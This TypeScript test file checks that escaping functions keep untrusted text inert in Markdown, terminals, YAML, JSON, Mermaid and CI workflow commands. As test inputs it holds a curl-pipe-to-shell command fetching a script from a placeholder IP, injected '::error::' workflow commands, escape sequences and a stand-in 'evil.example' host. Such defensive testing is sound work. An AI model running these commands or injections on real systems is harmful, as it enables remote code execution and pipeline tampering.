import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import {
  exactText,
  fenced,
  forJson,
  forMarkdown,
  forMermaid,
  forTerminal,
  forWorkflowCommand,
  forWorkflowProperty,
  forYaml,
  fromOutside,
  inCode,
} from '../../triage/finding/untrusted.ts';
import { activeContent, nodesOf, parseGfm, UNSEEN } from '../report/rendered.ts';
import { hostileString, hostileText } from './hostile.ts';

const outside = (text: string) => fromOutside(text);

/** The text a person reads. */
function shown(markdown: string): string {
  return [...nodesOf(parseGfm(markdown))]
    .map((node) => (node.type === 'text' || node.type === 'inlineCode' ? node.value : ''))
    .join('');
}

describe('inline Markdown', () => {
  it('keeps plain words as prose and puts what could act into code', () => {
    expect(forMarkdown(outside('Reverse shell in C&C container (web_1)'))).toBe(
      'Reverse shell in C&amp;C container (web\\_1)',
    );
    expect(forMarkdown(outside('ping @org/team, see #1'))).toBe('`ping @org/team, see #1`');
    expect(forMarkdown(outside('see evil.example'))).toBe('`see evil.example`');
  });

  it('spells out what cannot be seen, and says when there was nothing', () => {
    expect(forMarkdown(outside('a\u202eb\x1b[0m\r\n'))).toBe('`a\\u{202e}b\\x1b[0m\\r\\n`');
    expect(forMarkdown(outside(''))).toBe('(empty)');
  });

  it.each([
    ['a paragraph', (text: string) => `${text}\n`],
    ['a sentence', (text: string) => `Seen: ${text}, and more.\n`],
    ['a heading', (text: string) => `# ${text}\n`],
    ['a list item', (text: string) => `- ${text}\n`],
  ])('does nothing and stays one block in %s', (_place, page) => {
    fc.assert(
      fc.property(hostileText, (text) => {
        for (const inline of [forMarkdown(text), inCode(text)]) {
          expect(inline).not.toMatch(UNSEEN);
          expect(inline).not.toContain('\n');
          expect(activeContent(page(inline))).toEqual([]);
          expect(parseGfm(page(inline)).children).toHaveLength(1);
        }
      }),
    );
  });

  it('stays in its own table cell', () => {
    fc.assert(
      fc.property(hostileText, hostileText, (left, right) => {
        const page = `| a | b |\n| --- | --- |\n| ${forMarkdown(left)} | ${inCode(right)} |\n`;
        const [table, ...rest] = parseGfm(page).children;
        expect(rest).toEqual([]);
        expect(table?.type).toBe('table');
        const rows = table?.type === 'table' ? table.children : [];
        expect(rows.map((row) => row.children.length)).toEqual([2, 2]);
        expect(activeContent(page)).toEqual([]);
      }),
    );
  });

  it('shows the whole of a short printable text, in and out of a table', () => {
    const printable = fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 60 });
    fc.assert(
      fc.property(printable, (text) => {
        for (const inline of [forMarkdown(outside(text)), inCode(outside(text))]) {
          const cell = `| a |\n| --- |\n| ${inline} |\n`;
          expect(shown(`x ${inline} x`)).toMatch(/^x .* x$/s);
          const read = shown(`x ${inline} x`).slice(2, -2);
          expect(read.replaceAll(' ', '')).toBe(text.replaceAll(' ', ''));
          expect(shown(cell).slice(1).replaceAll(' ', '')).toBe(text.replaceAll(' ', ''));
        }
      }),
    );
  });

  it('is short, however long the text', () => {
    fc.assert(
      fc.property(hostileText, fc.integer({ min: 10, max: 400 }), (text, max) => {
        // A code span of backticks only is three times its text; a pipe costs a fence on each side.
        expect(forMarkdown(text, max).length).toBeLessThan(10 * max + 20);
      }),
    );
    expect(forMarkdown(outside('x'.repeat(1000)), 20)).toMatch(/x…\[cut\]`$/);
    expect(exactText(outside(forTerminal(outside('😀'.repeat(1000)), 20)))).toBe(
      `${'😀'.repeat(14)}…[cut]`,
    );
  });
});

describe('a fenced block', () => {
  it('is one code block in our language, whatever it holds', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const blocks = parseGfm(`before\n\n${fenced(text)}\n\nafter\n`).children;
        expect(blocks.map(({ type }) => type)).toEqual(['paragraph', 'code', 'paragraph']);
        expect(blocks[1]).toMatchObject({ lang: 'text', meta: null });
        expect(fenced(text)).not.toMatch(UNSEEN);
      }),
    );
  });

  it('keeps line breaks of any kind, and no line of it is a command to a build log', () => {
    expect(fenced(outside('a\r\nb\rc\n::error::d'))).toBe('```text\na\nb\nc\n: :error::d\n```');
    fc.assert(
      fc.property(hostileText, (text) => {
        expect(fenced(text)).not.toMatch(/^\s*::|##\[/m);
      }),
    );
  });
});

describe('a terminal line', () => {
  it('is one line without anything that moves the cursor, colours, links or commands', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const line = forTerminal(text);
        expect(line).not.toMatch(UNSEEN);
        expect(line).not.toMatch(/\n|^\s*::|##\[/);
        expect(Array.from(line).length).toBeLessThan(310);
      }),
    );
  });

  it('leaves a usual command line as it is', () => {
    const usual = `sh -c "curl http://198.51.100.7/x.sh | sh" --flag='a b' $(id) \\ ~`;
    expect(forTerminal(outside(usual))).toBe(usual);
  });
});

describe('a Mermaid label', () => {
  it('holds only letters, digits and quiet signs, and never the word end', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const label = forMermaid(text);
        expect(label).toMatch(/^[\p{L}\p{M}\p{N} .,_\-…]+$/u);
        expect(label).not.toMatch(/\bend\b/);
        expect(label).toBe(label.trim());
        expect(Array.from(label).length).toBeLessThanOrEqual(60);
      }),
    );
  });

  it('is never empty', () => {
    expect(forMermaid(outside('::""'))).toBe('unnamed');
  });
});

describe('a YAML value', () => {
  it('reads back as one string, and its source is inert even where it is shown as Markdown', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const value = forYaml(text);
        expect(value).not.toMatch(UNSEEN);
        expect(typeof (parseYaml(`a: ${value}\nb: 1\n`) as { a: unknown }).a).toBe('string');
        expect(Object.keys(parseYaml(`a: ${value}\nb: 1\n`) as object)).toEqual(['a', 'b']);
        expect(
          activeContent(`a: ${value}\n`).filter((found) => !found.includes('[0-9a-f]')),
        ).toEqual([]);
      }),
    );
  });

  it('gives printable text back unchanged', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme-ascii', maxLength: 80 }), (text) => {
        expect(parseYaml(forYaml(outside(text)))).toBe(text);
      }),
    );
  });
});

describe('JSON', () => {
  it('keeps every value exact and shows nothing that acts on a terminal', () => {
    fc.assert(
      fc.property(hostileString, fc.constantFrom(undefined, 2), (text, indent) => {
        const json = forJson({ [text]: [text] }, indent);
        expect(json).not.toMatch(UNSEEN);
        expect(JSON.parse(json)).toEqual({ [text]: [text] });
        expect(json.split('\n')).toHaveLength(indent === undefined ? 1 : 5);
      }),
    );
  });
});

describe('a workflow command', () => {
  /** As the runner reads the message of a command. */
  const unescaped = (text: string) =>
    text.replaceAll('%0D', '\r').replaceAll('%0A', '\n').replaceAll('%25', '%');

  it('is one line that holds no other command and no end of a value', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        for (const escaped of [forWorkflowCommand(text), forWorkflowProperty(text)]) {
          expect(escaped).not.toMatch(UNSEEN);
          expect(escaped).not.toMatch(/[\r\n]|::|##\[/);
          expect(escaped).not.toMatch(/%(?!25|3A|2C)/);
          expect(escaped.length).toBeLessThan(2500);
        }
        expect(forWorkflowProperty(text)).not.toMatch(/[:,]/);
      }),
    );
  });

  it('shows what a terminal would show', () => {
    expect(forWorkflowCommand(outside('50% of %0A: a,b'))).toBe('50%25 of %250A: a,b');
    expect(unescaped(forWorkflowCommand(outside('50% of %0A: a,b')))).toBe('50% of %0A: a,b');
    expect(forWorkflowCommand(outside('a\r\n::error::b'))).toBe('a\\r\\n: :error: :b');
    expect(forWorkflowProperty(outside('a,b:c%.ts'))).toBe('a%2Cb%3Ac%25.ts');
  });

  it('is cut before it is escaped, so that no escape is', () => {
    expect(forWorkflowProperty(outside(':'.repeat(50)), 20)).toBe(`${'%3A'.repeat(14)}…[cut]`);
  });
});
